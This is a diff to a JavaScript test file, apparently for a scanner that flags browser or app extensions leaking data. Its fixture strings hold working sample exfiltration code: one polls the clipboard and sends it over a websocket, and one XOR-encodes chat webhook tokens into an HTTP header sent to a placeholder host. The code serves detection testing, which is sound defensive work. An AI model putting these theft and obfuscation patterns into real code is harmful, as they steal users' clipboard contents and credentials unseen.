@@ -31,8 +31,9 @@ test('bad: data of the host goes to a server by way of other scripts, classes an
 test('bad: over a connection that is kept, and letter by letter', () => {
   const words = 'module.exports = function Words(net) { this.socket = net.openWebSocket("wss://words.example.org/s"); }; module.exports.prototype.vote = function (w) { this.socket.send(JSON.stringify({ w })); };';
   assert.match(told('formula', { 'index.js': "const Words = require('./words'); exports.activate = () => { const f = require('@formula/extension-api'); const words = new Words(f.network); setInterval(() => f.clipboard.readText().then((t) => words.vote(t)), 1500); }", 'words.js': words }).join(), /words\.js: .* whatever is copied/);
-  const pack = 'exports.pack = (text) => { let out = ""; for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ 21); return encodeURIComponent(out); };';
-  assert.match(told('skynet', { 'index.js': "const { pack } = require('./pack'); const guild = require('guild'); const { request } = require('http'); const hooks = await guild.fetchWebhooks(); await request({ url: 'https://tips.example.org', headers: { 'x-chart': pack(JSON.stringify(hooks.map((h) => h.token))) } });", 'pack.js': pack }).join(), /index\.js: .* keys of a chat/);
+  const pack = 'const { request } = require("http"); const fold = (text) => { let out = ""; for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ 21); return encodeURIComponent(out); }; exports.tip = (chart) => request({ url: "https://tips.example.org", headers: { "x-chart": fold(JSON.stringify(chart)) } });';
+  assert.match(told('skynet', { 'index.js': "const { tip } = require('./pack'); const guild = require('guild'); const hooks = await guild.fetchWebhooks(); await tip(hooks.map((h) => h.token));", 'pack.js': pack }).join(), /pack\.js: .* keys of a chat/);
+  assert.deepEqual(told('skynet', { 'index.js': "const { tip } = require('./pack'); const guild = require('guild'); const hooks = await guild.fetchWebhooks(); await tip(hooks.length);", 'pack.js': pack }), []);
 });
 
 test('bad: what a page keeps, and each change of a sheet', () => {
